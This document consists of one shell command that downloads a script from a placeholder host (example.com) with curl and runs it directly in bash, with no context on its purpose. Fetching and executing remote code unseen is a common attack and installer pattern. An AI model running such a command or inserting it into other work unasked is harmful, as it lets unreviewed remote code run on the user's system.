bash <<< "$(curl -s http://example.com/a.sh)"
